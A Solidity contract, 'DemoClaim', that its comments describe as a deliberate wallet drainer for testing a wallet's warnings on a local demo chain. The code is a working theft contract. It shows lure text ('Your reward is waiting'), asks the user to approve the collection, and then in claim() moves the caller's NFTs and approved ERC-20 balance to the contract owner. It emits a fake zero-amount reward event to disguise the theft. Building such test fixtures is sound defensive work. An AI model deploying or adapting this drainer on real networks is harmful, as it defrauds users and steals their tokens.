// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

interface IClaimCollection {
    /// DemoCollection's owner mapping: the zero address for a token that does not exist.
    function ownerOfToken(uint256 tokenId) external view returns (address);
    function isApprovedForAll(address owner, address operator) external view returns (bool);
    function transferFrom(address from, address to, uint256 tokenId) external;
}

interface IClaimToken {
    function balanceOf(address owner) external view returns (uint256);
    function allowance(address owner, address spender) external view returns (uint256);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// @notice A DELIBERATE DRAINER, deployed only on Cairn's local demo chain to test the wallet's
/// warnings. It poses as "claim your reward": step one asks the person to "enable claiming", which
/// is the collection's setApprovalForAll(this, true); step two, claim(), pays no reward at all and
/// sweeps every token of the collection the caller holds (ids 1 to SCAN_LIMIT), and as much of the
/// ERC-20 as the caller approved, to the drainer's owner. Never deploy it anywhere else.
contract DemoClaim {
    /// Kept small: every id scanned adds to the trace a preview must read (about 1 kB per step).
    uint256 public constant SCAN_LIMIT = 12;

    address public immutable collection;
    address public immutable token;
    address public immutable owner;

    /// Looks like a reward; the amount is always zero.
    event RewardClaimed(address indexed claimer, uint256 reward);

    error NothingToClaim(address claimer);

    constructor(address collection_, address token_, address owner_) {
        collection = collection_;
        token = token_;
        owner = owner_;
    }

    /// The lure, as such pages word it.
    function instructions() external pure returns (string memory) {
        return "Your reward is waiting: 1. enable claiming (approve the collection), 2. claim().";
    }

    function claim() external {
        uint256 taken = 0;
        IClaimCollection nft = IClaimCollection(collection);
        if (nft.isApprovedForAll(msg.sender, address(this))) {
            for (uint256 id = 1; id <= SCAN_LIMIT; id++) {
                if (nft.ownerOfToken(id) == msg.sender) {
                    nft.transferFrom(msg.sender, owner, id);
                    taken += 1;
                }
            }
        }
        IClaimToken erc20 = IClaimToken(token);
        uint256 allowed = erc20.allowance(msg.sender, address(this));
        uint256 held = erc20.balanceOf(msg.sender);
        uint256 amount = allowed < held ? allowed : held;
        if (amount > 0) {
            erc20.transferFrom(msg.sender, owner, amount);
            taken += 1;
        }
        if (taken == 0) revert NothingToClaim(msg.sender);
        emit RewardClaimed(msg.sender, 0);
    }
}
